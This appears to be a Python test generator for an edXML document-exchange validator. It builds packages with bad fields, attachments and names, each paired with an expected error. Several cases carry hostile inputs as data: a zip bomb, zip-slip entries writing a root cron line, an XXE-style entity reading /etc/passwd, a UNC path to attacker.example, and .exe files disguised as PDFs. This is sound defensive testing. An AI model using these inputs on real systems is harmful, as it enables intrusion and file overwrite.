        Case("trace-timestamp-impossible.edxml", "edxml.date_invalid",
             "a TraceHeader Timestamp at 24:61:00",
             u8(sub(CLEAN, "2018/06/20 16:35:56", "2018/06/20 24:61:00"))),
        Case("organid-65-chars.edxml", "edxml.field_too_long",
             "a To OrganId of 65 characters",
             u8(in_block(CLEAN, "To", "<edXML:OrganId>000.00.15.H51</edXML:OrganId>",
                         f"<edXML:OrganId>{'9' * 65}</edXML:OrganId>"))),
        _to_block_kept(to_block),
    ]


def _to_block_kept(to_block: str) -> Case:
    """Two To blocks, the second without OrganId: the path names the second."""
    second = resub(to_block, r"<edXML:OrganId>[^<]*</edXML:OrganId>", "")
    return Case("second-to-without-organid.edxml", "edxml.missing_element",
                "the second of two To blocks has no OrganId",
                u8(sub(CLEAN, to_block, to_block + "\n        " + second)),
                path=f"{HEADER}/To[2]")


def status_rule_cases() -> list[Case]:
    return [
        Case("status-07.edxml", "edxml.status_code_unknown", "StatusCode 07 is not in use",
             u8(set_text(STATUS, "StatusCode", "07")), path=f"{HEADER}/StatusCode"),
        Case("status-14.edxml", "edxml.status_code_unknown", "StatusCode 14 is not in use",
             u8(set_text(STATUS, "StatusCode", "14"))),
        Case("status-99.edxml", "edxml.status_code_unknown", "StatusCode 99",
             u8(set_text(STATUS, "StatusCode", "99"))),
        Case("status-AB.edxml", "edxml.status_code_unknown", "StatusCode 'AB'",
             u8(set_text(STATUS, "StatusCode", "AB"))),
        Case("status-code-missing.edxml", "edxml.schema_invalid",
             "MessageHeader without StatusCode reads as a document, and the document "
             "schema refuses its StaffInfo",
             u8(drop(STATUS, "StatusCode"))),
        Case("status-code-empty.edxml", "edxml.missing_element",
             "an empty StatusCode element",
             u8(set_text(STATUS, "StatusCode", "")), path=f"{HEADER}/StatusCode"),
        Case("status-wrapper-code-missing.edxml", "edxml.missing_element",
             "the Status wrapper (spec §5) without StatusCode",
             u8(drop(sub(STATUS, "edXML:MessageHeader", "edXML:Status", 0), "StatusCode"))),
        Case("status-02-without-description.edxml", "edxml.refusal_reason_missing",
             "a refusal (02) that gives no reason (Art. 6.4)",
             u8(drop(STATUS_02, "Description")), path=f"{HEADER}/Description"),
        Case("status-02-blank-description.edxml", "edxml.refusal_reason_missing",
             "a refusal (02) whose Description is only spaces",
             u8(set_text(STATUS_02, "Description", "   "))),
        Case("status-responsefor-documentid-missing.edxml", "edxml.missing_element",
             "a status that does not say which document it is about",
             u8(in_block(STATUS, "ResponseFor", block(STATUS, "DocumentId"), "")),
             path=f"{HEADER}/ResponseFor"),
        Case("status-from-without-organid.edxml", "edxml.missing_element",
             "a status whose sender has no OrganId",
             u8(in_block(STATUS, "From", "<edXML:OrganId>000.00.00.H41</edXML:OrganId>", ""))),
        Case("status-timestamp-impossible.edxml", "edxml.date_invalid",
             "a status Timestamp on 2015/09/31",
             u8(set_text(STATUS, "Timestamp", "2015/09/31 11:08:36")),
             path=f"{HEADER}/Timestamp"),
    ]


def attachment_cases() -> list[Case]:
    hello = make_zip([("hello.txt", b"Xin chao\n")])
    bomb = make_zip([("zeros.txt", bytes(4 * 1024 * 1024))])
    return [
        Case("base64-junk-chars.edxml", "edxml.base64_invalid",
             "'!' and '#' inside the base64",
             u8(with_payload(PAYLOAD[:40] + "!!##" + PAYLOAD[44:])),
             path=CTE),
        Case("base64-bad-padding.edxml", "edxml.base64_invalid",
             "padding in the middle of the base64",
             u8(with_payload(PAYLOAD[:8] + "==" + PAYLOAD[10:]))),
        Case("base64-truncated.edxml", "edxml.base64_invalid",
             "base64 missing its last character",
             u8(with_payload(PAYLOAD[:-1]))),
        Case("base64-url-alphabet.edxml", "edxml.base64_invalid",
             "the URL-safe alphabet ('-', '_') instead of '+', '/'",
             u8(with_payload(base64.urlsafe_b64encode(b"\xfb\xff\xfe" * 30).decode()))),
        Case("base64-non-ascii.edxml", "edxml.base64_invalid",
             "a no-break space and Vietnamese letters inside the base64",
             u8(with_payload(PAYLOAD[:40] + "\u00a0ộ" + PAYLOAD[42:]))),
        Case("reference-without-attachment.edxml", "edxml.reference_without_attachment",
             "the manifest lists a file that is not in AttachmentEncoded",
             u8(sub(CLEAN, ATTACHMENT, "")),
             path="/edXML/edXMLEnvelope/edXMLBody/edXMLManifest"),
        Case("attachment-without-reference.edxml", "edxml.attachment_without_reference",
             "an attachment the manifest does not list", u8(sub(CLEAN, REFERENCE, "")),
             path="/edXML/AttachmentEncoded"),
        Case("contentid-mismatch.edxml", "edxml.reference_without_attachment",
             "manifest and attachment ContentIds differ by one character",
             u8(sub(CLEAN, f"<ContentId>cid:{CID}</ContentId>",
                    f"<ContentId>cid:{CID[:-1]}d</ContentId>"))),
        Case("duplicate-contentid.edxml", "edxml.duplicate_content_id",
             "two references and two attachments share one ContentId",
             u8(sub(sub(CLEAN, ATTACHMENT, ATTACHMENT * 2),
                    REFERENCE, REFERENCE * 2))),
        Case("attachment-without-payload.edxml", "edxml.missing_element",
             "an Attachment without ContentTransferEncoded",
             u8(resub(CLEAN, r"<edXML:ContentTransferEncoded[^>]*>[^<]*"
                             r"</edXML:ContentTransferEncoded>", "")),
             path="/edXML/AttachmentEncoded/Attachment"),
        Case("pdf-really-zip.edxml", "edxml.attachment_type_mismatch",
             "declared application/pdf, the bytes are a zip",
             u8(with_payload(hello, "application/pdf")), path=CTE),
        Case("pdf-really-text.edxml", "edxml.attachment_type_mismatch",
             "declared application/pdf, the bytes are plain text",
             u8(with_payload(b"Kinh gui: cac co quan.\nNoi dung van ban.\n" * 3,
                             "application/pdf"))),
        Case("zip-is-not-docx.edxml", "edxml.attachment_type_mismatch",
             "declared docx, the bytes are a plain zip (a zip is not a docx)",
             u8(with_payload(hello, DOCX_MIME))),
        Case("exe-named-pdf.edxml", "edxml.attachment_type_forbidden",
             "an MZ (Windows .exe) file declared application/pdf: forbidden type first",
             u8(with_payload(EXE, "application/pdf")), path=CTE),
        Case("elf-named-pdf.edxml", "edxml.attachment_type_forbidden",
             "an ELF executable declared application/pdf",
             u8(with_payload(ELF, "application/pdf"))),
        Case("html-named-txt.edxml", "edxml.attachment_type_forbidden",
             "an HTML page with a script declared text/plain",
             u8(with_payload(b"<!DOCTYPE html><html><body><script>alert(1)</script>"
                             b"</body></html>\n", "text/plain"))),
        Case("empty-attachment.edxml", "edxml.attachment_type_forbidden",
             "an attachment of zero bytes", u8(with_payload(b"", "application/pdf"))),
        Case("zip-strict-exe-entry.edxml", "edxml.attachment_type_forbidden",
             "with zip_strict_entries, an .exe inside the zip is refused",
             u8(with_payload(make_zip([("setup.exe", EXE)]))),
             settings={"zip_strict_entries": True}),
        Case("zip-bomb.edxml", "edxml.zip_unsafe",
             "4 MiB of zeros in a 4 KB zip: ratio ~1000 > 200", u8(with_payload(bomb)),
             path=CTE),
        Case("zip-ratio-setting.edxml", "edxml.zip_unsafe",
             "the same zip bomb under zip_max_ratio = 50",
             u8(with_payload(bomb)), settings={"zip_max_ratio": 50}),
        Case("zip-total-bytes.edxml", "edxml.zip_unsafe",
             "a 9-byte file under a 4-byte uncompressed limit",
             u8(with_payload(hello)), settings={"zip_max_total_bytes": 4}),
        Case("zip-too-many-entries.edxml", "edxml.zip_unsafe",
             "six entries under a limit of five",
             u8(with_payload(make_zip([(f"{i}.txt", b"x") for i in range(6)]))),
             settings={"zip_max_entries": 5}),
        Case("zip-dotdot-path.edxml", "edxml.zip_unsafe",
             "an entry named ../../../etc/cron.d/x (zip slip)",
             u8(with_payload(make_zip([("../../../etc/cron.d/x", b"* * * * * root sh\n")])))),
        Case("zip-absolute-path.edxml", "edxml.zip_unsafe",
             "an entry with an absolute path",
             u8(with_payload(make_zip([("/etc/passwd", b"root:x:0:0::/root:/bin/sh\n")])))),
        Case("zip-windows-path.edxml", "edxml.zip_unsafe",
             "an entry named ..\\..\\Windows\\x.dll with backslashes",
             u8(with_payload(make_zip([("..\\..\\Windows\\x.dll", b"x")])))),
        Case("zip-drive-letter.edxml", "edxml.zip_unsafe",
             "an entry named C:/x.bat",
             u8(with_payload(make_zip([("C:/x.bat", b"x")])))),
        Case("zip-entry-control-char.edxml", "edxml.zip_unsafe",
             "an entry whose name carries an escape sequence (ESC [ 2 J) and a line feed",
             u8(with_payload(make_zip([("bao\x1b[2Jcao\n.pdf", PDF)])))),
        Case("zip-corrupt-deflate.edxml", "edxml.zip_unsafe",
             "an entry whose deflate stream is garbage",
             u8(with_payload(_corrupt_deflate()))),
        Case("zip-odt-corrupt-mimetype.edxml", "edxml.zip_unsafe",
             "an ODF zip whose 'mimetype' entry cannot be inflated",
             u8(with_payload(_corrupt_deflate("mimetype")))),
        Case("zip-truncated.edxml", "edxml.zip_unsafe",
             "a zip cut before its central directory",
             u8(with_payload(make_zip([("a.txt", b"hello" * 50)])[:-30]))),
    ]


def _corrupt_deflate(name: str = "a.txt") -> bytes:
    data = make_zip([(name, b"application/vnd.oasis.opendocument.text" * 20)])
    start = data.index(name.encode()) + len(name)  # the first bytes after the local name
    return data[:start] + b"\xff" * 8 + data[start + 8:]


def warning_cases() -> list[Case]:
    business_bad_date = sub(BUSINESS_UPDATE, ">2</edXML:BussinessDocType>",
                            ">0</edXML:BussinessDocType>")
    return [
        Case("text-not-nfc-subject.edxml", "edxml.text_not_nfc",
             "Subject in decomposed Unicode (NFD), as some Mac and web forms send it",
             u8(set_text(CLEAN, "Subject", nfd("Về việc chỉ đạo liên thông văn bản"))),
             warning=True, path=f"{HEADER}/Subject"),
        Case("text-not-nfc-status.edxml", "edxml.text_not_nfc",
             "a status Description in NFD",
             u8(set_text(STATUS, "Description", nfd("Đã đến"))), warning=True),
        Case("identifier-shape-to.edxml", "edxml.identifier_shape",
             "a To OrganId like 'vxp.saas.02' (occurs in real data)",
             u8(in_block(CLEAN, "To", "000.00.15.H51", "vxp.saas.02")), warning=True,
             path=f"{HEADER}/To[1]/OrganId"),
        Case("identifier-shape-status-from.edxml", "edxml.identifier_shape",
             "a status From like '28.22.H17'",
             u8(in_block(STATUS, "From", "000.00.00.H41", "28.22.H17")), warning=True),
        Case("document-id-mismatch.edxml", "edxml.document_id_mismatch",
             "DocumentId in comma form whose number differs from CodeNumber",
             u8(set_text(CLEAN, "DocumentId", "000.00.15.H51,2019/01/17,999/PRO-TEST-CASE1")),
             warning=True, path=f"{HEADER}/DocumentId"),
        Case("document-id-impossible-date.edxml", "edxml.document_id_mismatch",
             "DocumentId of the package itself with 2019/02/30",
             u8(set_text(CLEAN, "DocumentId",
                         "000.00.15.H51,2019/02/30,1223412/PRO-TEST-CASE1")), warning=True),
        Case("referenced-date-status.edxml", "edxml.referenced_date_invalid",
             "a status about a document whose DocumentId carries 2015/02/30",
             u8(in_block(STATUS, "ResponseFor", "000.00.00.G22,2015/09/30",
                         "000.00.00.G22,2015/02/30")), warning=True,
             path=f"{HEADER}/ResponseFor/DocumentId"),
        Case("referenced-date-business.edxml", "edxml.referenced_date_invalid",
             "Bussiness/DocumentId with 2014/02/30, as in the real packages",
             u8(with_business(CLEAN, business_bad_date)), warning=True),
        Case("trace-organid-null.edxml", "edxml.trace_organ_missing",
             "a TraceHeader whose OrganId is the text 'null'",
             u8(sub(CLEAN, "<edXML:OrganId>01.02.G22</edXML:OrganId>",
                    "<edXML:OrganId>null</edXML:OrganId>")), warning=True,
             path="/edXML/edXMLEnvelope/edXMLHeader/TraceHeaderList/TraceHeader[1]"),
        Case("trace-organid-missing.edxml", "edxml.trace_organ_missing",
             "a TraceHeader without OrganId",
             u8(sub(CLEAN, "<edXML:OrganId>001.00.20.TT2</edXML:OrganId>", "")), warning=True),
        Case("manifest-type-differs.edxml", "edxml.manifest_type_differs",
             "the manifest says application/pdf, the attachment application/zip "
             "(as edoc-2019-small does)",
             u8(sub(CLEAN, "<edXML:ContentType>application/zip</edXML:ContentType>",
                    "<edXML:ContentType>application/pdf</edXML:ContentType>")), warning=True),
    ]


def tolerated_cases() -> list[Tolerated]:
    wrapped = "\n".join(PAYLOAD[i : i + 76] for i in range(0, len(PAYLOAD), 76))
    return [
        Tolerated("ok-edoc-clean-base.edxml",
                  "edoc-2019-small with NFC FullName and matching types: the base of the "
                  "edoc cases", u8(CLEAN)),
        Tolerated("ok-pi-before-root.edxml",
                  "decided: a processing instruction before the root is harmless (nothing "
                  "ever applies it) and is accepted",
                  u8(sub(STATUS, DECL + "\n",
                         DECL + '\n<?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?>\n'))),
        Tolerated("ok-comment-before-root.edxml", "a comment between declaration and root",
                  u8(sub(STATUS, DECL + "\n", DECL + "\n<!-- exported 2015/09/20 -->\n"))),
        Tolerated("ok-utf8-bom.edxml", "one UTF-8 byte order mark before the declaration",
                  b"\xef\xbb\xbf" + u8(STATUS)),
        Tolerated("ok-no-declaration.edxml", "no XML declaration: UTF-8 by default",
                  u8(STATUS.split("?>", 1)[1].lstrip())),
        Tolerated("ok-encoding-lowercase.edxml", "encoding='utf-8' in lower case, single quotes",
                  u8(sub(STATUS, 'encoding="UTF-8"', "encoding='utf-8'"))),
        Tolerated("ok-doctype-text-in-comment.edxml",
                  "'<!DOCTYPE' and '<!ENTITY' inside comments are only text",
                  u8(sub(sub(STATUS, DECL + "\n", DECL + "\n<!-- <!DOCTYPE edXML> -->\n"),
                         "<edXML:StatusCode>",
                         '<!-- <!ENTITY x SYSTEM "file:///etc/passwd"> -->'
                         "<edXML:StatusCode>"))),
        Tolerated("ok-doctype-text-in-cdata.edxml",
                  "a CDATA section holding '<!DOCTYPE' and '&xxe;' in Description",
                  u8(set_text(STATUS, "Description",
                              "<![CDATA[<!DOCTYPE edXML> &xxe; ]]>"))),
        Tolerated("ok-character-references.edxml",
                  "predefined entities and numeric character references",
                  u8(set_text(STATUS, "Description", "Ngh&#7879; An &amp; H&#xE0; N&#7897;i "
                              "&lt;&gt;&quot;&apos;"))),
        Tolerated("ok-status-wrapper.edxml", "the Status wrapper one producer uses (spec §5)",
                  u8(sub(STATUS, "edXML:MessageHeader", "edXML:Status", 0))),
        Tolerated("ok-business-spelling.edxml",
                  "Business (single s) instead of Bussiness, with a valid referenced id",
                  u8(with_business(CLEAN, sub(sub(
                      BUSINESS_UPDATE, "edXML:Bussiness>", "edXML:Business>", 0),
                      "2014/02/30", "2014/02/28")))),
        Tolerated("ok-organ-in-charge.edxml", "the OrganInCharge spelling variant",
                  u8(sub(CLEAN, "edXML:OrganizationInCharge>", "edXML:OrganInCharge>", 0))),
        Tolerated("ok-cid-one-side.edxml", "'cid:' on the manifest side only",
                  u8(sub(CLEAN, f"<ContentId>cid:{CID}</ContentId>",
                         f"<ContentId>{CID}</ContentId>"))),
        Tolerated("ok-base64-wrapped.edxml", "base64 wrapped at 76 columns (MIME style)",
                  u8(with_payload(wrapped))),
        Tolerated("ok-base64-in-cdata.edxml", "base64 inside a CDATA section",
                  u8(with_payload("<![CDATA[" + PAYLOAD + "]]>"))),
        Tolerated("ok-pdf-attachment.edxml", "a real PDF declared application/pdf",
                  u8(with_payload(PDF, "application/pdf"))),
        Tolerated("ok-ddmmyyyy-date.edxml", "PromulgationDate in the dd/MM/yyyy variant",
                  u8(set_text(CLEAN, "PromulgationDate", "17/01/2019"))),
        Tolerated("ok-vendor-namespace.edxml",
                  "a vendor element in its own namespace inside MessageHeader",
                  u8(sub(CLEAN, "<edXML:Subject>",
                         '<v:Internal xmlns:v="urn:vendor:qlvb">42</v:Internal>\n'
                         "        <edXML:Subject>"))),
        Tolerated("ok-subject-500-chars.edxml", "Subject of exactly 500 characters",
                  u8(set_text(CLEAN, "Subject", "s" * 500))),
    ]


# --- issue 8: lengths, names, types, markup, replace, foreign attributes ----------------


def length_cases() -> list[Case]:
    """Spec §7a: over the standard's length is a warning, over the hard bound (4x the
    standard's length, at least 64) a refusal."""
    warned = [
        ("subject-501-chars.edxml", "Subject", "Về việc " + "x" * 493, 500, f"{HEADER}/Subject"),
        ("content-501-chars.edxml", "Content", "y" * 501, 500, None),
        ("codenotation-31-chars.edxml", "CodeNotation", "UBND-" + "VP" * 13, 30,
         f"{HEADER}/Code/CodeNotation"),
        ("codenumber-12-chars.edxml", "CodeNumber", "123456789012", 11,
         f"{HEADER}/Code/CodeNumber"),
        ("place-51-chars.edxml", "Place", "Thành phố Lạng Sơn, " + "z" * 31, 50,
         f"{HEADER}/PromulgationInfo/Place"),
        ("typernotation-11-chars.edxml", "TyperNotation", "ABCDEFGHIJK", 10, None),
        ("sphere-101-chars.edxml", "SphereOfPromulgation", "Lưu hành nội bộ " + "s" * 85, 100,
         None),
    ]
    cases = [
        Case(file, "edxml.field_over_standard",
             f"{tag} of {len(value)} characters (standard {limit}): accepted with a warning",
             u8(set_text(CLEAN, tag, value)), warning=True, path=path)
        for file, tag, value, limit, path in warned
    ]
    cases += [
        Case("codenumber-14-chars-gateway.edxml", "edxml.field_over_standard",
             "a 14-character CodeNumber, as the national gateway itself emits (standard 11)",
             u8(set_text(CLEAN, "CodeNumber", "20240001234567")), warning=True,
             path=f"{HEADER}/Code/CodeNumber"),
        Case("toplaces-place-151-chars.edxml", "edxml.field_over_standard",
             "ToPlaces/Place of 151 characters (standard 150)",
             u8(in_block(CLEAN, "ToPlaces", "Các bộ", "Các bộ " + "w" * 144)), warning=True,
             path=f"{HEADER}/ToPlaces/Place"),
    ]
    hard = [
        ("subject-2001-chars.edxml", "Subject", "Về việc " + "x" * 1993, 2000,
         f"{HEADER}/Subject"),
        ("content-2001-chars.edxml", "Content", "y" * 2001, 2000, None),
        ("codenotation-121-chars.edxml", "CodeNotation", "UBND-" + "V" * 116, 120,
         f"{HEADER}/Code/CodeNotation"),
        ("codenumber-65-chars.edxml", "CodeNumber", "1" * 65, 64, f"{HEADER}/Code/CodeNumber"),
        ("place-201-chars.edxml", "Place", "Lạng Sơn " + "z" * 192, 200, None),
        ("typernotation-65-chars.edxml", "TyperNotation", "T" * 65, 64, None),
        ("sphere-401-chars.edxml", "SphereOfPromulgation", "s" * 401, 400, None),
    ]
    cases += [
        Case(file, "edxml.field_too_long",
             f"{tag} of {len(value)} characters: over the hard bound {limit}",
             u8(set_text(CLEAN, tag, value)), path=path)
        for file, tag, value, limit, path in hard
    ]
    cases.append(Case("toplaces-place-601-chars.edxml", "edxml.field_too_long",
                      "ToPlaces/Place of 601 characters (hard bound 600)",
                      u8(in_block(CLEAN, "ToPlaces", "Các bộ", "Các bộ " + "w" * 594)),
                      path=f"{HEADER}/ToPlaces/Place"))
    return cases


ATT_NAME = "GUIDE_INSTALL OPENVPN.SIGNED.PDF"


def att_name(name: str, base: str = CLEAN) -> str:
    """The Attachment's AttachmentName (XML text: escape with character references)."""
    return sub(base, f"<AttachmentName>{ATT_NAME}</AttachmentName>",
               f"<AttachmentName>{name}</AttachmentName>")


def ref_name(name: str, base: str = CLEAN) -> str:
    """The manifest Reference's AttachmentName."""
    return sub(base, f"<edXML:AttachmentName>{ATT_NAME}</edXML:AttachmentName>",
               f"<edXML:AttachmentName>{name}</edXML:AttachmentName>")


def att_description(text: str, base: str = CLEAN) -> str:
    return sub(base, f"<AttachmentName>{ATT_NAME}</AttachmentName>",
               f"<AttachmentName>{ATT_NAME}</AttachmentName>"
               f"<Description>{text}</Description>")


def ref_description(text: str, base: str = CLEAN) -> str:
    return sub(base, f"<edXML:AttachmentName>{ATT_NAME}</edXML:AttachmentName>",
               f"<edXML:AttachmentName>{ATT_NAME}</edXML:AttachmentName>"
               f"<edXML:Description>{text}</edXML:Description>")


def name_cases() -> list[Case]:
    """Names recipients save files by: a path or a control character is refused, a
    deceptive name is a warning (and its real extension is judged by Art. 4.3)."""
    unsafe = [
        ("name-dotdot.edxml", "../../Startup/baocao.pdf", "climbs out with '..'"),
        ("name-absolute.edxml", "/etc/cron.d/baocao.pdf", "an absolute POSIX path"),
        ("name-drive-letter.edxml", "C:\\Users\\Public\\baocao.pdf", "a Windows drive path"),
        ("name-drive-relative.edxml", "C:baocao.pdf", "a drive-relative name"),
        ("name-unc.edxml", "\\\\server\\share\\baocao.pdf", "a UNC path"),
        ("name-backslash.edxml", "van-ban\\baocao.pdf", "a backslash: a folder on Windows"),
        ("name-slash.edxml", "12/UBND-VP.pdf", "a slash: a folder everywhere"),
        ("name-stream-colon.edxml", "baocao.pdf:payload.exe", "an NTFS alternate data stream"),
        ("name-device-con.edxml", "CON.pdf", "the Windows console device"),
        ("name-device-com1.edxml", "com1.pdf", "a serial port device, lower case"),
        ("name-dots-only.edxml", "..", "the parent folder itself"),
        ("name-tab.edxml", "bao&#9;cao.pdf", "a tab (C0 control)"),
        ("name-newline.edxml", "baocao.pdf&#10;.exe", "a line feed splitting the name"),
        ("name-carriage-return.edxml", "bao&#13;cao.pdf", "a carriage return"),
        ("name-del.edxml", "bao&#127;cao.pdf", "DEL"),
        ("name-c1-nel.edxml", "bao&#133;cao.pdf", "NEL, a C1 control"),
        ("name-c1-csi.edxml", "bao&#155;cao.pdf", "CSI, a C1 control (terminal escapes)"),
        ("name-line-separator.edxml", "bao&#x2028;cao.pdf", "U+2028 LINE SEPARATOR"),
    ]
    cases = [
        Case(file, "edxml.attachment_name_unsafe", f"AttachmentName {name!r}: {why}",
             u8(att_name(name)), path=f"{ATT}/AttachmentName")
        for file, name, why in unsafe
    ]
    cases += [
        Case("reference-name-dotdot.edxml", "edxml.attachment_name_unsafe",
             "the manifest Reference's AttachmentName climbs out with ..\\..",
             u8(ref_name("..\\..\\baocao.pdf")), path=f"{REF}/AttachmentName"),
        Case("description-dotdot.edxml", "edxml.attachment_name_unsafe",
             "an Attachment Description (some systems save by it) climbing out with '..'",
             u8(att_description("../../../etc/cron.d/x")), path=f"{ATT}/Description"),
        Case("description-unc.edxml", "edxml.attachment_name_unsafe",
             "a Reference Description that is a UNC path",
             u8(ref_description("\\\\attacker.example\\share\\x")), path=f"{REF}/Description"),
        Case("description-drive.edxml", "edxml.attachment_name_unsafe",
             "a Description starting with a drive letter",
             u8(att_description("D:\\van-ban\\x.pdf"))),
        Case("description-control.edxml", "edxml.attachment_name_unsafe",
             "a Description carrying a C1 control (CSI)",
             u8(att_description("Công văn&#155;31m"))),
        # Deceptive names whose real extension is not allowed: refused for the type.
        Case("name-rlo-exe.edxml", "edxml.attachment_type_forbidden",
             "'baocao\\u202Efdp.exe' shows as 'baocaoexe.pdf': the real extension is .exe",
             u8(att_name("baocao&#x202E;fdp.exe")), path=f"{ATT}/AttachmentName"),
        Case("name-double-extension-exe.edxml", "edxml.attachment_type_forbidden",
             "'baocao.pdf.exe' in a zip container: the extension .exe is not allowed",
             u8(att_name("baocao.pdf.exe")), path=f"{ATT}/AttachmentName"),
        Case("name-trailing-dot-exe.edxml", "edxml.attachment_type_forbidden",
             "'baocao.exe.': Windows drops the trailing dot and saves baocao.exe",
             u8(att_name("baocao.exe."))),
        Case("name-padded-exe.edxml", "edxml.attachment_type_forbidden",
             "'baocao.pdf' + 40 spaces + '.exe': the .exe is off screen",
             u8(att_name("baocao.pdf" + " " * 40 + ".exe"))),
        # Deceptive but harmless in type: accepted with a warning.
        Case("name-rlo.edxml", "edxml.attachment_name_deceptive",
             "'hop-dong-\\u202Excod.pdf' shows as 'hop-dong-fdp.docx'; it is a .pdf name",
             u8(att_name("hop-dong-&#x202E;xcod.pdf")), warning=True,
             path=f"{ATT}/AttachmentName"),
        Case("name-zero-width.edxml", "edxml.attachment_name_deceptive",
             "a zero-width space inside the name",
             u8(att_name("baocao&#x200B;.pdf")), warning=True),
        Case("name-bidi-isolate.edxml", "edxml.attachment_name_deceptive",
             "a right-to-left isolate around the name",
             u8(ref_name("&#x2067;baocao.pdf&#x2069;")), warning=True,
             path=f"{REF}/AttachmentName"),
        Case("description-double-extension.edxml", "edxml.attachment_name_deceptive",
             "a Description 'baocao.pdf.exe' (a label, not the file's type)",
             u8(att_description("baocao.pdf.exe")), warning=True, path=f"{ATT}/Description"),
    ]
    return cases


def type_cases() -> list[Case]:
    """Art. 4.3: declared type, the name's extension and the bytes all allowed, agreeing."""
    pdf = with_payload(PDF, "application/pdf")
    return [
        Case("declared-text-html.edxml", "edxml.attachment_type_forbidden",
             "declared text/html: the bytes are a PDF that also carries a script",
             u8(with_payload(PDF + b"<html><script>alert(1)</script></html>\n",
                             "text/html")), path=CTE),
        Case("declared-x-msdownload.edxml", "edxml.attachment_type_forbidden",
             "declared application/x-msdownload (an .exe type) over PDF bytes",
             u8(with_payload(PDF, "application/x-msdownload")), path=CTE),
        Case("name-ext-exe.edxml", "edxml.attachment_type_forbidden",
             "a real PDF declared application/pdf but named setup.exe",
             u8(att_name("setup.exe", pdf)), path=f"{ATT}/AttachmentName"),
        Case("name-ext-html.edxml", "edxml.attachment_type_forbidden",
             "a real PDF named baocao.html (a browser would open it)",
             u8(att_name("baocao.html", pdf))),
        Case("name-ext-unknown.edxml", "edxml.attachment_type_forbidden",
             "an extension that is no Art. 4.3 type (.abc)",
             u8(att_name("baocao.abc", pdf))),
        Case("name-ext-mismatch.edxml", "edxml.attachment_type_mismatch",
             "a PDF declared application/pdf and named baocao.xlsx",
             u8(att_name("baocao.xlsx", pdf)), path=f"{ATT}/AttachmentName"),
        Case("name-ext-mismatch-octet-stream.edxml", "edxml.attachment_type_mismatch",
             "declared application/octet-stream: judged by name (.docx) and bytes (pdf)",
             u8(att_name("baocao.docx", with_payload(PDF, "application/octet-stream")))),
        Case("zip-named-exe.edxml", "edxml.attachment_type_forbidden",
             "the SDK's zip container named setup.exe: a zipped file's name must still "
             "be an allowed type", u8(att_name("setup.exe"))),
        Case("manifest-type-html.edxml", "edxml.attachment_type_forbidden",
             "the manifest Reference declares text/html for the attachment",
             u8(sub(CLEAN, "<edXML:ContentType>application/zip</edXML:ContentType>",
                    "<edXML:ContentType>text/html</edXML:ContentType>")), path=REF),
        Case("reference-name-exe.edxml", "edxml.attachment_type_forbidden",
             "the manifest names the attachment baocao.exe",
             u8(ref_name("baocao.exe")), path=f"{REF}/AttachmentName"),
        Case("reference-name-mismatch.edxml", "edxml.attachment_type_mismatch",
             "a PDF attachment the manifest names baocao.docx",
             u8(ref_name("baocao.docx", pdf)), path=f"{REF}/AttachmentName"),
    ]


def markup_cases() -> list[Case]:
    """A field read as an identifier, code, name or payload holds one text node only."""
    to_id = "<edXML:OrganId>000.00.15.H51</edXML:OrganId>"
    st_from = "<edXML:OrganId>000.00.00.H41</edXML:OrganId>"
    st_rf = "<edXML:OrganId>000.00.00.G22</edXML:OrganId>"
    business_id = search(r"<edXML:DocumentId>([^<]*)</edXML:DocumentId>", BUSINESS_UPDATE, 1)
    return [
        Case("to-organid-pi.edxml", "edxml.markup_in_field",
             "a processing instruction inside To/OrganId: .text stops before it",
             u8(in_block(CLEAN, "To", to_id,
                         "<edXML:OrganId>000.00.15.H51<?route ?>.X99</edXML:OrganId>")),
             path=f"{HEADER}/To/OrganId"),
        Case("to-organid-comment.edxml", "edxml.markup_in_field",
             "a comment splitting To/OrganId (C14N drops it before the signature check)",
             u8(in_block(CLEAN, "To", to_id,
                         "<edXML:OrganId>000.00.15<!-- -->.H51</edXML:OrganId>")),
             path=f"{HEADER}/To/OrganId"),
        Case("to-organid-cdata-split.edxml", "edxml.markup_in_field",
             "a CDATA section splitting To/OrganId into two text nodes",
             u8(in_block(CLEAN, "To", to_id,
                         "<edXML:OrganId>000.00<![CDATA[.15.H51]]></edXML:OrganId>"))),
        Case("from-organid-comment.edxml", "edxml.markup_in_field",
             "a comment after the sender's OrganId",
             u8(in_block(CLEAN, "From", to_id,
                         "<edXML:OrganId>000.00.15.H51<!--x--></edXML:OrganId>"))),
        Case("status-from-organid-pi.edxml", "edxml.markup_in_field",
             "a PI inside a status's From/OrganId",
             u8(in_block(STATUS, "From", st_from,
                         "<edXML:OrganId><?x?>000.00.00.H41</edXML:OrganId>"))),
        Case("status-responsefor-organid-comment.edxml", "edxml.markup_in_field",
             "ResponseFor/OrganId (where a status is routed) split by a comment",
             u8(in_block(STATUS, "ResponseFor", st_rf,
                         "<edXML:OrganId>000.00.00.G<!-- -->22</edXML:OrganId>")),
             path=f"{HEADER}/ResponseFor/OrganId"),
        Case("status-documentid-cdata-split.edxml", "edxml.markup_in_field",
             "ResponseFor/DocumentId split by a CDATA section",
             u8(in_block(STATUS, "ResponseFor", "000.00.00.G22,2015/09/30",
                         "000.00.00.G22,<![CDATA[2015/09/30]]>"))),
        Case("statuscode-comment.edxml", "edxml.markup_in_field",
             "StatusCode '0<!-- -->6'",
             u8(set_text(STATUS, "StatusCode", "0<!-- -->6"))),
        Case("priority-child-element.edxml", "edxml.markup_in_field",
             "an element inside OtherInfo/Priority (OtherInfo takes any content)",
             u8(set_text(CLEAN, "Priority", "<edXML:v/>3"))),
        Case("secrecy-comment.edxml", "edxml.markup_in_field",
             "a secrecy mark hidden behind a comment (.text would read nothing)",
             u8(sub(CLEAN, "<edXML:Priority>0</edXML:Priority>",
                    "<edXML:Priority>0</edXML:Priority>"
                    "<edXML:SecurityLevel><!-- -->Mật</edXML:SecurityLevel>"))),
        Case("attachmentname-comment.edxml", "edxml.markup_in_field",
             "AttachmentName 'baocao.pdf<!-- -->.exe'",
             u8(att_name("baocao.pdf<!-- -->.exe")), path=f"{ATT}/AttachmentName"),
        Case("payload-comment.edxml", "edxml.markup_in_field",
             "a comment inside the base64: only its first part would be inspected",
             u8(with_payload(PAYLOAD[:40] + "<!-- -->" + PAYLOAD[40:])), path=CTE),
        Case("payload-pi.edxml", "edxml.markup_in_field",
             "a processing instruction inside the base64",
             u8(with_payload(PAYLOAD[:40] + "<?x?>" + PAYLOAD[40:]))),
        Case("contentid-pi.edxml", "edxml.markup_in_field",
             "a PI inside the Reference's ContentId (the join key)",
             u8(sub(CLEAN, f"<edXML:ContentId>cid:{CID}</edXML:ContentId>",
